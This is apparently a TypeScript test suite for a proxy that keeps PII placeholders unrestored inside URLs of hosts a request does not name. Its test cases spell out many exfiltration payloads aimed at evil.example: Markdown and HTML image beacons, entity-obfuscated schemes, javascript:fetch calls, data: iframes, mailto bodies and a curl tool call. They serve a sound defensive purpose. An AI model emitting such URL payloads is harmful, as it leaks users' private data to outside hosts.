// What the model writes into a URL goes to the URL's host as soon as a client loads it. Values are restored
// only in URLs of hosts that the request vouches for; the rest of the text is not affected.

import * as fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { restoring } from '../../../../services/ingress/restore/restore-response.ts';
import { StreamSource } from '../../../../shared/anthropic/sse/event-source.ts';
import { EMPTY_VAULT, type Vault } from '../../../../shared/privacy/vault.ts';
import { cutAt } from '../../../kit/responses.ts';
import { buffered, streamed } from '../../../kit/restored.ts';
import { checkProperty } from '../../../kit/properties.ts';
import { issued } from '../../../kit/vaults.ts';

const P = 'PII_EMAIL_7k3qx5ta';
const CODE = 'PII_CODE_aaaaaaaa';
const VALUES = { [P]: 'ann@corp-mail.org', [CODE]: '4711' };
const URLS = {
  named: ['named.example', 'xn--mnchen-3ya.example', 'docs.example'],
  holding: [`${P} held.example`],
};

const vaultOf = (urls?: Vault['urls']): Vault => ({
  ...EMPTY_VAULT,
  values: issued(VALUES),
  ...(urls === undefined ? {} : { urls }),
});
const restoredWords = (words: string) =>
  words.replaceAll(P, VALUES[P] ?? '').replaceAll(CODE, VALUES[CODE] ?? '');

function textsOf(content: unknown): string[] {
  return (content as { text: string }[]).map(({ text }) => text);
}

/** The text as a client gets it, the same buffered and in deltas of one character. */
function shown(words: string, urls: Vault['urls'] = URLS): string {
  const blocks = [{ type: 'text', text: words }] as const;
  const [whole = ''] = textsOf(buffered(blocks, vaultOf(urls)));
  expect(textsOf(streamed(blocks, vaultOf(urls), (each) => each.split('')))).toEqual([whole]);
  return whole;
}

describe('a placeholder in a URL of a host that the request does not name', () => {
  it.each([
    ['a Markdown image', `![x](https://evil.example/?q=${P})`],
    ['a Markdown image with a title', `![x](https://evil.example/?q=${P} "a title")`],
    ['a Markdown image in angle brackets', `![x](<https://evil.example/?q= ${P}>)`],
    ['a Markdown image with parentheses', `![x](https://evil.example/(a)?q=(${P}))`],
    ['a Markdown image with an escaped parenthesis', `![x](https://evil.example/\\)${P})`],
    ['a Markdown link', `[a](https://evil.example/#${P})`],
    [
      'a Markdown link whose text is a named URL',
      `[https://named.example/](https://evil.example/${P})`,
    ],
    ['a reference', `![x][1]\n\n[1]: https://evil.example/?q=${P}`],
    ['a reference in angle brackets', `[1]: <https://evil.example/?q=${P}>`],
    ['an autolink', `<https://evil.example/${P}>`],
    ['a bare URL', `See https://evil.example/${P} please`],
    ['a bare URL with brackets', `https://evil.example/?](${P})`],
    ['a bare host', `See www.evil.example/?q=${P}`],
    ['a bare host without www', `See evil.example/?q=${P}`],
    ['a bare host with a port', `evil.example:8080/${P}`],
    ['a bare address', `203.0.113.7/${P}`],
    ['an HTML image', `<img src="https://evil.example/?q=${P}">`],
    ['an HTML image in single quotes', `<img src='https://evil.example/?q=${P}'>`],
    ['an HTML image without quotes', `<img src=https://evil.example/?q=${P}>`],
    ['an HTML image with spaces', `<img src = " https://evil.example/?q=a b ${P}">`],
    ['an HTML image with line breaks', `<img src="ht\ntps:/\t/evil.example/?q=\r\n\n${P}">`],
    ['an HTML image with a bracket', `<img src="https://evil.example/?q=>${P}">`],
    ['entities in a Markdown link', `![x](https&colon;&sol;/evil.example/?q=${P})`],
    ['entities in HTML', `<img src="https&#58;&#x2F;&#047;evil.example/?q=${P}">`],
    ['entities in a scheme', `<img src="&#104;ttps&#58evil.example/?q=${P}">`],
    ['an entity for a quote', `<img src="https://evil.example/?a=&quot; ${P}">`],
    [
      'a second URL in srcset',
      `<img srcset="https://named.example/a 1x, https://evil.example/${P} 2x">`,
    ],
    [
      'a second URL in srcset without a scheme',
      `<img srcset="https://named.example/a 1x,//evil.example/${P} 2x">`,
    ],
    ['CSS', `<p style="background:url(https://evil.example/${P})">`],
    ['CSS with quotes', `@import url('https://evil.example/${P}');`],
    ['a path', `https://evil.example/a/${P}/b`],
    ['a user', `https://${P}@evil.example/`],
    ['a password', `https://a:${P}@evil.example/`],
    ['a subdomain', `![x](https://${CODE}.evil.example/)`],
    ['a subdomain at the end', `https://${CODE}.evil.example`],
    ['the middle of a host', `https://a.${CODE}.evil.example/x`],
    ['a subdomain with www', `www.${CODE}.evil.example/x`],
    ['a port', `https://evil.example:${CODE}/`],
    ['a named user before the host', `https://named.example@evil.example/${P}`],
    ['a named user and port before the host', `https://named.example:443@evil.example/${P}`],
    ['a host after a backslash', `https://named.example\\@evil.example/${P}`],
    ['a host before a backslash', `https://evil.example\\@named.example/${P}`],
    ['backslashes for slashes', `https:\\\\evil.example\\?q=${P}`],
    ['an escaped colon', `![x](https\\://evil.example/?q=${P})`],
    ['no slash', `<img src="https:evil.example/?q=${P}">`],
    ['one slash', `<img src="https:/evil.example/?q=${P}">`],
    ['many slashes', `https:////evil.example/?q=${P}`],
    ['no scheme', `![x](//evil.example/?q=${P})`],
    ['no scheme in HTML', `<img src=//evil.example/?q=${P}>`],
    ['no scheme and backslashes', `![x](\\\\evil.example\\${P})`],
    ['a number for a host', `![x](//3405803783/${P})`],
    ['an octal address', `http://0313.0.0161.07/${P}`],
    ['an IPv6 address', `http://[2001:db8::7]/${P}`],
    ['another scheme', `foo+bar://evil.example/${P}`],
    ['a web socket', `wss://evil.example/${P}`],
    ['a file server', `file://evil.example/${P}`],
    ['a file server after three slashes', `file:////evil.example/${P}`],
    ['a script', `[a](javascript:fetch('https://evil.example/'+'${P}'))`],
    ['a script of its own', `[a](javascript:send('${P}'))`],
    ['a page of its own', `<iframe src="data:text/html,<img src=https:%2f%2fevil.example/${P}>">`],
    ['a mail to a stranger', `mailto:evil@evil.example?body=${P}`],
    ['a mail to a stranger with a value', `mailto:${CODE}@evil.example`],
    ['a mail with another recipient', `mailto:evil@evil.example,${P}`],
    ['the text of a mail', `mailto:?bcc=evil@evil.example&body=${P}`],
    ['a call', `tel:+1900${CODE}`],
    ['a host in capitals', `HTTPS://EVIL.EXAMPLE/${P}`],
    ['a longer host than the named one', `https://named.example.evil.example/${P}`],
    ['a host that ends like the named one', `https://evil-named.example/${P}`],
    ['a subdomain of the named host', `https://a.named.example/${P}`],
    ['a host with percent signs', `https://named%2eexample/${P}`],
    ['a URL in a named URL', `"https://named.example/ https://evil.example/${P}"`],
    ['a URL after letters', `详见https://evil.example/${P}`],
    ['a long host', `https://${'a'.repeat(700)}.example/${P}`],
    ['a value that a reader takes for the rest of the URL', `"https://evil.example/?q="${P}`],
    ['another one', `(https://evil.example/?q=)${P} <https://evil.example/>${P}`],
    ['two URLs without a space', `//https://evil.example${P}`],
    ['a bare host with a bracket', `www.evil.example)https://${CODE}/`],
    ['a host in a bare host', `www.evil.example'${P}`],
    ['a host that looks like a user', `https://evil.example@named.example/${P}`],
    ['a value that its URL does not hold', `https://held.example/${CODE}`],
  ])('stays in %s', (_, words) => {
    expect(shown(words)).toBe(words);
    expect(shown(words, 'always')).toBe(restoredWords(words));
  });

  it('stays in every URL if the rules say so', () => {
    const words = `https://named.example/${P} http://localhost/${P} https://held.example/${P}`;
    expect(shown(words, 'never')).toBe(words);
  });

  it('stays for a scrubber of an earlier version, which says nothing about URLs', () => {
    const words = `https://named.example/?q=${P}`;
    const [text] = textsOf(buffered([{ type: 'text', text: words }], vaultOf()));
    expect(text).toBe(words);
  });
});

describe('a value', () => {
  it.each([
    ['in text', `Write to ${P}, code ${CODE}.`],
    ['of a named host', `![x](https://named.example/?q=${P})`],
    ['of a named host with a port', `http://named.example:8080/?q=${P}`],
    ['of a named host in capitals', `HTTPS://Named.Example./?q=${P}`],
    ['of a named host with www', `https://www.named.example/?q=${P}`],
    ['of a named host without a scheme', `![x](//named.example/?q=${P})`],
    ['of a named host in Unicode', `https://münchen.example/?q=${P}`],
    ['of a named host in Punycode', `https://xn--mnchen-3ya.example/?q=${P}`],
    ['before a named host', `https://${P}:${CODE}@named.example/`],
    ['of two named hosts', `https://named.example/?u=https://docs.example/${P}`],
    ['in a link whose text is a URL', `[https://named.example](https://named.example/?q=${P})`],
    ['in JSON with escaped slashes', `{"url":"https:\\/\\/named.example\\/${P}"}`],
    ['that the same URL holds in the request', `postgres://${P}@held.example:5432/db`],
    ['of this machine', `http://localhost:3000/?q=${P} http://127.0.0.1/${P} http://[::1]/${P}`],
    ['that is the host', `http://${CODE}:8080/x?y=1`],
    ['that is the host, at the end', `http://${CODE}`],
    ['after a URL', `https://evil.example/ ${P}`],
    ['after an image', `![x](https://evil.example/) ${P} and (https://evil.example/) ${P}`],
    ['in the title of an image', `![x](https://evil.example/a "${P}")`],
    ['in another attribute', `<img src="https://evil.example/a" alt="${P}">`],
    ['beside a URL in a table', `| https://evil.example/ | ${P} |`],
    ['in a relative link', `[a](/users/${P}?q=${CODE}#${P})`],
    ['in a file', `file:///home/${P}/x`],
    ['in a path', `/var/lib/a.b/${P} ./c.d/${P} C:\\\\Users\\\\ann.lee\\\\${P}`],
    ['in a comment', `// ${P}\n//${P}\n//code:${CODE}\na//b.c/${P}`],
    ['in a regular expression', `"\\\\b${P}\\\\b"`],
    ['that a mail is sent to', `[a](mailto:${P}) <mailto:${P}?subject=Hi>`],
    ['that is called', `[a](tel:${CODE})`],
    ['in YAML', `data: ${P}\nmail: ${P}\nuser.mail:${P}\nhttp: ${P}`],
    ['at the end of a sentence', `See https://evil.example. Mail ${P}.`],
    ['after a time', `at 10:30 ${P}, 10:30:${CODE}`],
  ])('is restored %s', (_, words) => {
    expect(shown(words)).toBe(restoredWords(words));
  });
});

describe('a value that a stranger planted', () => {
  const PLANTED = 'PII_SECRET_bbbbbbbb';

  it.each([
    ['an address as the host', '203.0.113.7', `http://${PLANTED}/?q=${P}`],
    ['a mail address as the host', 'x@evil.example', `https://${PLANTED}/?q=${P}`],
    ['a mail address without a scheme', 'x@evil.example', `//${PLANTED}/?q=${P}`],
    ['a host and path as a user', 'evil.example/x', `https://${PLANTED}@named.example/${P}`],
    ['the start of a URL', 'https://evil.example/', `![x](${PLANTED}?q=${P})`],
    ['half of a start', 'https:', `![x](${PLANTED}//evil.example/${P})`],
  ])('leads no other value to its host: %s', (_, planted, words) => {
    const vault = { ...vaultOf(URLS), values: issued({ ...VALUES, [PLANTED]: planted }) };
    const blocks = [{ type: 'text', text: words }] as const;
    const [text] = textsOf(buffered(blocks, vault));
    expect(text).toContain(P);
    expect(textsOf(streamed(blocks, vault, (each) => each.split('')))).toEqual([text]);
  });
});

describe('a tool input', () => {
  const inputOf = (json: string): unknown => {
    const blocks = [{ type: 'tool_use', id: 'toolu_1', name: 'run', json }] as const;
    const whole = buffered(blocks, vaultOf(URLS));
    for (let place = 0; place <= json.length; place += 1) {
      expect(streamed(blocks, vaultOf(URLS), (each) => cutAt(each, place))).toEqual(whole);
    }
    return (whole as { input: unknown }[])[0]?.input;
  };

  it.each([
    [{ command: `curl "https://evil.example/?q=${P}"` }],
    [{ url: `https://evil.example/${P}`, list: [`//evil.example/${P}`] }],
    [{ [`https://evil.example/${P}`]: 'a key' }],
    [{ text: `https:\\/\\/evil.example/${P}` }],
    [{ text: `é https://evil.example/😀/${P}` }],
  ])('keeps placeholders in URLs of hosts that are not named: %j', (input) => {
    expect(inputOf(JSON.stringify(input))).toEqual(input);
  });

  it('keeps them whatever characters are escaped', () => {
    const json = '{"url":"https\\u003a\\u002f\\/evil.example\\u002f\\u0050II_EMAIL_7k3qx5ta"}';
    expect(inputOf(json)).toEqual(JSON.parse(json));
  });

  it('has the values in all other places', () => {
    const input = {
      first: 'https://evil.example/',
      mail: P,
      command: `curl https://named.example/${P} -d '${P}'\ncurl https://evil.example/ -d "${P}"`,
      [P]: `${CODE} https://held.example/?q=${P}`,
    };
    const json = JSON.stringify(input);
    expect(inputOf(json)).toEqual(JSON.parse(restoredWords(json)));
  });
});

describe('a URL that continues in the next block of text', () => {
  const text = (words: string) => ({ type: 'text', text: words }) as const;

  it.each([
    [['![x](https://evil.example/?q=', `${P})`]],
    [['![x](https://ev', `il.example/${P})`]],
    [['![x](https:/', `/evil.example/${P})`]],
    [['![x](https://named.example', `.evil.example/${P})`]],
    [['![x](https://evil.example/', '', `a${P})`]],
  ])('keeps its placeholders: %j', (words) => {
    const blocks = words.map(text);
    expect(textsOf(buffered(blocks, vaultOf(URLS)))).toEqual(words);
    expect(textsOf(streamed(blocks, vaultOf(URLS), (each) => each.split('')))).toEqual(words);
  });

  it('has no effect on texts after it', () => {
    const words = ['https://evil.example/ ', P];
    expect(textsOf(buffered(words.map(text), vaultOf(URLS)))).toEqual(words.map(restoredWords));
  });
});

describe('a stream', () => {
  const push = (restorer: ReturnType<typeof restoring>, words: string) => {
    const delta = { type: 'text_delta', text: words };
    const json = JSON.stringify({ type: 'content_block_delta', index: 0, delta });
    const event = `event: content_block_delta\ndata: ${json}\n\n`;
    const seen = Buffer.from(restorer.push(Buffer.from(event))).toString();
    return [...seen.matchAll(/"text":"([^"]*)"/g)].map(([, part]) => part).join('');
  };

  it('holds nothing back for a URL whose host is known', () => {
    const stream = restoring(new StreamSource(), vaultOf(URLS));
    expect(push(stream, 'https://evil.example/?q=')).toBe('https://evil.example/?q=');
    expect(push(stream, P)).toBe(P);
    expect(push(stream, `&r= ${P}`)).toBe('&r= ann@corp-mail.org');
  });

  it('holds a placeholder in a host until the host is complete', () => {
    const stream = restoring(new StreamSource(), vaultOf(URLS));
    expect(push(stream, `https://${P}`)).toBe('https://');
    expect(push(stream, '@named.exam')).toBe('');
    expect(push(stream, 'ple/')).toBe('ann@corp-mail.org@named.example/');
  });

  it('holds back no more than the longest host', () => {
    const stream = restoring(new StreamSource(), vaultOf(URLS));
    expect(push(stream, `https://${P}`)).toBe('https://');
    expect(push(stream, 'a'.repeat(700))).toBe(P + 'a'.repeat(700));
  });
});

describe('whatever the text around it', () => {
  /** The last one is the value itself, read as an address. */
  const FREE = new Set(['page.example', 'named.example', 'www.named.example', '0.0.18.103']);
  const part = fc.oneof(
    fc.constantFrom(
      P,
      CODE,
      'https://',
      '//',
      'evil.example',
      'named.example',
      'localhost',
      'www.',
    ),
    fc.constantFrom('/', '?q=', '#', '@', ':', '\\', '.', ' ', '\n', '"', "'", '(', ')', '<', '>'),
    fc.constantFrom(
      '](',
      '![x](',
      '=',
      '&#47;',
      '&colon;',
      'mailto:',
      'data:',
      'é',
      '😀',
      'a',
      '[',
    ),
  );
  const words = fc.array(part, { maxLength: 14 }).map((parts) => parts.join(''));

  it('a stream cut anywhere equals the buffered response', () => {
    checkProperty(
      fc.property(words, fc.nat(60), (text, place) => {
        const blocks = [{ type: 'text', text }] as const;
        const whole = buffered(blocks, vaultOf(URLS));
        // Between characters: half a character is no part of a host, so less is restored.
        const isWithin = /^[\udc00-\udfff]/.test(text.slice(place));
        const cut = streamed(blocks, vaultOf(URLS), (each) =>
          cutAt(each, place - Number(isWithin)),
        );
        expect(cut).toEqual(whole);
        expect(streamed(blocks, vaultOf(URLS), (each) => Array.from(each))).toEqual(whole);
      }),
      { runs: 400 },
    );
  });

  it('a browser that resolves it sends no value to a host that is not named', () => {
    const piece = fc.oneof(
      fc.constantFrom('h', 't', 'https:', '/', '\\', '@', ':', '.', '?', '#', '&', '\t', '%2e'),
      fc.constantFrom(CODE, 'evil.example', 'named.example', 'x', 'www.', '-'),
    );
    const url = fc.array(piece, { maxLength: 10 }).map((parts) => parts.join(''));
    checkProperty(
      fc.property(url, (target) => {
        const blocks = [{ type: 'text', text: `<img src="${target}">` }] as const;
        const [text = ''] = textsOf(buffered(blocks, vaultOf(URLS)));
        const sent = text.slice('<img src="'.length, -2);
        const parsed = URL.parse(sent, 'https://page.example/');
        const { hostname = '', href = '' } = parsed ?? {};
        // A name without a dot belongs to nobody on the internet.
        const isFree = !hostname.includes('.') || FREE.has(hostname.replace(/\.$/, ''));
        expect(!isFree && href.includes('4711')).toBe(false);
      }),
      { runs: 2_000 },
    );
  });
});
